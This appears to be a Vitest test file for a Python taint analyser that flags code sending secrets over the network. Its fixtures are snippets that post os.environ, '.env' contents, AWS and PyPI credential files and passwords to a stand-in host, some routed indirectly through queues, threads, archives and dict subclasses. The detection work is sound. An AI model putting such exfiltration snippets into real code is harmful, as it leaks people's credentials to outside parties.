import { describe, expect, test } from 'vitest';
import { LABEL, labelNames } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

const TOLD = LABEL.credential | LABEL.envAll | LABEL.secretParam;

/** What requests of a source send, those that loading does not make in brackets. */
const sent = (source: string): string[] =>
  analyzePython(`import csv, io, os, queue, requests, threading, zipfile\n${source}`)
    .flow.flows.filter(({ sink, labels }) => sink === 'network' && (labels & TOLD) !== 0)
    .map(({ labels, live }) => {
      const names = labelNames(labels & TOLD).join('+');
      return live ? names : `(${names})`;
    });

const WORKER =
  "Q = queue.Queue()\ndef work():\n  while True:\n    requests.post('https://a.weir.test', json=Q.get())\nthreading.Thread(target=work).start()\n";

describe('what is put into a queue', () => {
  test('reaches a worker that was started before', () => {
    expect(sent(`${WORKER}Q.put(dict(os.environ))`)).toEqual(['envAll']);
    expect(sent(`${WORKER}Q.put_nowait([open('.env').read()])`)).toEqual(['credential']);
  });

  test('by a function, is told as what loading does not send', () => {
    expect(
      sent(`${WORKER}def note(**event): Q.put(event)\ndef check(user, password): note(u=user, p=password)`),
    ).toEqual(['(secretParam)']);
  });

  test('of an object, reaches its own worker', () => {
    const source =
      "class Log:\n  def __init__(self): self.q = queue.SimpleQueue()\n  def run(self):\n    for e in iter(self.q.get, None): requests.post('https://a.weir.test', json=e)\n  def note(self, password): self.q.put(password)";
    expect(sent(source)).toEqual(['(secretParam)']);
  });

  test('does not reach who takes from another one', () => {
    expect(sent(`${WORKER}R = queue.Queue()\nR.put(dict(os.environ))`)).toEqual([]);
  });

  test('again by its own worker, ends', () => {
    expect(sent(WORKER.replace('json=Q.get())', 'json=Q.get())\n    Q.put(dict(os.environ))'))).toEqual([
      'envAll',
    ]);
  });
});

describe('what is written through something else', () => {
  test.each([
    ['an archive', "with zipfile.ZipFile(b, 'w') as z: z.writestr('a', open('.env').read())"],
    ['a table', "w = csv.writer(b)\nw.writerow([open('.env').read()])"],
  ])('lands in the memory that it was made with: %s', (_what, source) => {
    expect(
      sent(`b = io.BytesIO()\n${source}\nrequests.post('https://a.weir.test', data=b.getvalue())`),
    ).toEqual(['credential']);
  });
});

describe('settings that were read', () => {
  const read = (path: string): string =>
    `import configparser\np = configparser.ConfigParser()\np.read(${path})\nfor s in p.sections():\n  for k, v in p[s].items(): requests.post('https://a.weir.test', data=v)`;

  test('are credentials where their file holds some', () => {
    expect(sent(read("os.path.expanduser('~/.aws/credentials')"))).toEqual(['credential']);
    expect(sent(read("['x.ini', os.path.join(h, '.pypirc')]"))).toEqual(['credential']);
  });

  test('are none where it is any other', () => {
    expect(sent(read("os.path.expanduser('~/.config/tool.ini')"))).toEqual([]);
  });
});

describe('an object of a class that is made from a container', () => {
  test.each([
    ['by its constructor', 'class P(dict): pass\nx = P(os.environ)'],
    [
      'by a method of the class',
      'class P(dict):\n  @classmethod\n  def make(cls): return cls({k: v for k, v in os.environ.items()})\nx = P.make()',
    ],
    [
      'by the constructor of the container',
      'class P(dict):\n  def __init__(self, v): super().__init__(v)\nx = P(os.environ)',
    ],
    [
      'by a method of the container',
      'class P(list):\n  def fill(self): super().extend(os.environ.items())\nx = P()\nx.fill()',
    ],
    ['and gives it by its methods', 'class P(dict): pass\nx = [v for v in P(os.environ).values()]'],
  ])('holds what it is made with: %s', (_what, source) => {
    expect(sent(`${source}\nrequests.post('https://a.weir.test', json=x)`)).toEqual(['envAll']);
  });
});
